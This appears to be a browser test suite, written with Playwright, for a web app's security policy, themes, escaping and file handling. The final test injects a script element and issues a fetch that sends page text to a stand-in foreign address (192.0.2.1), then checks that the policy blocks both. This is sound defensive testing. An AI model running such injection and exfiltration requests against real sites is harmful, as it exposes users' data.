"""Test the app's shell in a real browser: offline, in both themes, with its security policy."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.helpers.browser import (
    JOINER,
    MADE,
    App,
    Watch,
    inject_script,
    save_download,
    visit,
    wait_until_settled,
)
from tests.helpers.pages import MARKDOWN

pytestmark = pytest.mark.browser


def test_all_elements_work_under_security_policy_in_both_themes(page: Page, demos: App) -> None:
    visit(page, f"{demos.origin}/?demo=widgets_page")
    page.get_by_text("bytes 1 2 3").wait_for()
    page.locator(".js-plotly-plot .heatmaplayer").wait_for()
    page.locator('[data-testid="stDataFrame"] canvas').first.wait_for()
    page.locator('[data-testid="stVegaLiteChart"]').wait_for()
    page.locator(".katex").first.wait_for()
    picture = page.locator('[data-testid="stImage"] img').element_handle()
    page.wait_for_function("(image) => image.naturalWidth === 8", arg=picture)
    icon = page.eval_on_selector('link[rel~="icon"]', "(link) => link.href")
    assert icon.startswith("data:image/svg+xml")
    fonts = page.eval_on_selector("h1", "(one) => getComputedStyle(one).fontFamily")
    assert "Source Serif" in fonts
    for scheme, background in (("light", "rgb(251, 250, 247)"), ("dark", "rgb(20, 20, 26)")):
        page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
        expect(page.get_by_test_id("stApp")).to_have_css("background-color", background)


def test_user_text_is_never_rendered_as_markup(page: Page, demos: App) -> None:
    visit(page, f"{demos.origin}/?demo=widgets_page")
    for kind in ("stCaptionContainer", "stWidgetLabel"):
        places = page.locator(f'.st-key-plain [data-testid="{kind}"]')
        expect(places).to_have_count(len(MARKDOWN))
        assert [text.replace(JOINER, "").strip() for text in places.all_inner_texts()] == list(MARKDOWN)
        assert places.locator(MADE).count() == 0


@pytest.mark.prove
def test_upload_and_download_work(page: Page, demos: App) -> None:
    visit(page, f"{demos.origin}/?demo=widgets_page")
    file = {"name": "some.txt", "mimeType": "text/plain", "buffer": b"its content"}
    page.locator('input[type="file"]').set_input_files(file)  # type: ignore[arg-type]
    page.get_by_text("Read its content").wait_for()
    wait_until_settled(page)
    saved_file = save_download(page, "Download", exact=True)
    assert Path(saved_file.path()).read_text(encoding="utf-8") == "the file's text"


def test_policy_blocks_injected_scripts_and_foreign_requests(page: Page, demos: App, watch: Watch) -> None:
    """The policy blocks scripts even if escaping fails and markup is injected."""
    visit(page, f"{demos.origin}/?demo=widgets_page")
    inject_script(page)
    page.evaluate(
        "document.body.append(Object.assign(document.createElement('script'), {text: 'window.__pwned=1'}))"
    )
    assert page.evaluate("window.__pwned") is None
    assert any("Content Security Policy" in error for error in watch.errors)
    send = "() => fetch('http://192.0.2.1/?text').then(() => 'sent', (error) => error.name)"
    assert page.evaluate(send) == "TypeError"
    # The page's policy blocks the request before it is sent.
    assert watch.foreign == []
    watch.errors.clear()
